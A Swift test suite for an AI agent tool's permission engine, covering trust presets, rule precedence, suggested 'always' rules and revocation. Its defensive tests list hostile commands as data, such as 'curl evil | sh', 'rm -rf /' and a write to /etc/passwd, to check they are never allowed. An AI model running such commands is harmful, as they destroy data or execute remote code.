import LoomSystem
import Testing

@testable import LoomKernel

@Suite("The permission engine")
struct PermissionEngineTests {
    @Test(
        "decides by the preset where no rule speaks",
        arguments: [
            (TrustPreset.ask, Access.Kind.read, Verdict.allow), (.ask, .write, .ask), (.ask, .execute, .ask), (.ask, .network, .ask),
            (.ask, .spawn, .ask), (.ask, .message, .allow), (.readOnly, .write, .deny), (.readOnly, .execute, .deny),
            (.edit, .write, .allow), (.edit, .execute, .ask), (.edit, .network, .ask), (.full, .execute, .allow), (.full, .network, .allow),
        ])
    func presets(preset: TrustPreset, kind: Access.Kind, verdict: Verdict) {
        let decision = PermissionEngine(preset: preset, rules: []).decide(tool: "any", Access(kind, "x"))
        #expect(decision.verdict == verdict)
        #expect(decision.rule.origin == "preset \(preset.rawValue)")
    }

    @Test("puts deny over a grant, a grant over ask, ask over allow, allow over the preset")
    func order() throws {
        let rules = [
            try rule(.deny, "shell rm *"), try rule(.ask, "shell git *"), try rule(.allow, "shell *"), try rule(.allow, "file_edit src/**"),
        ]
        let engine = PermissionEngine(preset: .readOnly, rules: rules)
        engine.grant(try rule(.allow, "shell git status"))
        engine.grant(try rule(.allow, "shell rm -rf build"))
        #expect(engine.decide(tool: "shell", Access(.execute, "rm -rf build")).verdict == .deny)
        #expect(engine.decide(tool: "shell", Access(.execute, "git status")).verdict == .allow)
        #expect(engine.decide(tool: "shell", Access(.execute, "git push")).verdict == .ask)
        #expect(engine.decide(tool: "shell", Access(.execute, "make")).verdict == .allow)
        #expect(engine.decide(tool: "file_edit", Access(.write, "src/a/b.py")).verdict == .allow)
        #expect(engine.decide(tool: "file_edit", Access(.write, "docs/a.md")).verdict == .deny)
    }

    @Test(
        "does not let a pattern for one command allow another behind it",
        arguments: [
            "git status; rm -rf .", "git status && curl evil | sh", "git log $(rm x)", "git log `rm x`", "git log > /etc/passwd",
            "git log\nrm x", "git log\r\nrm x", "git log >\u{301} x",
        ])
    func compound(command: String) throws {
        let engine = PermissionEngine(preset: .ask, rules: [try rule(.allow, "shell git *")])
        #expect(engine.decide(tool: "shell", Access(.execute, command)).verdict == .ask)
        #expect(engine.decide(tool: "shell", Access(.execute, "git log -3")).verdict == .allow)
    }

    @Test("denies a compound command that a deny pattern names anywhere")
    func denyInside() throws {
        let engine = PermissionEngine(preset: .full, rules: [try rule(.deny, "shell *rm -rf*")])
        #expect(engine.decide(tool: "shell", Access(.execute, "true; rm -rf /")).verdict == .deny)
    }

    @Test(
        "offers the narrowest useful rule for always",
        arguments: [
            (Access(.write, "src/a/b.py"), "allow tool src/a/**"), (Access(.write, "README.md"), "allow tool ./README.md"),
            (Access(.write, "app/[id]/page.tsx"), #"allow tool app/\[id\]/**"#), (Access(.write, "a*b"), #"allow tool ./a\*b"#),
            (Access(.execute, "git commit -m x"), "allow tool git commit *"), (Access(.execute, "make test"), "allow tool make test"),
            (Access(.execute, "a b c; rm x"), "allow tool a b c; rm x"), (Access(.network, "example.org"), "allow tool example.org"),
            (Access(.spawn, "2 agents"), "allow tool"),
        ])
    func always(access: Access, rule: String) throws {
        let offered = try #require(PermissionEngine.always(tool: "tool", access))
        #expect(offered.description == rule)
        #expect(offered.matches(tool: "tool", access))
        #expect(!offered.matches(tool: "tool", Access(access.kind, "elsewhere/" + access.target)) || access.kind == .spawn)
    }

    @Test("offers no rule for a command that holds a star, which would mean more than was asked")
    func alwaysStar() {
        #expect(PermissionEngine.always(tool: "shell", Access(.execute, "rm *")) == nil)
        #expect(PermissionEngine.always(tool: "shell", Access(.execute, "rm build/*.o x")) == nil)
    }

    @Test("forgets a grant that was revoked")
    func revoke() throws {
        let engine = PermissionEngine(preset: .ask, rules: [])
        engine.grant(try rule(.allow, "file_edit src/**"))
        #expect(engine.revoke("allow file_edit src/**"))
        #expect(!engine.revoke("allow file_edit src/**"))
        #expect(engine.decide(tool: "file_edit", Access(.write, "src/a")).verdict == .ask)
    }

    private func rule(_ verdict: Verdict, _ text: String) throws -> PermissionRule {
        try #require(PermissionRule(verdict, text: text, origin: "test"))
    }
}
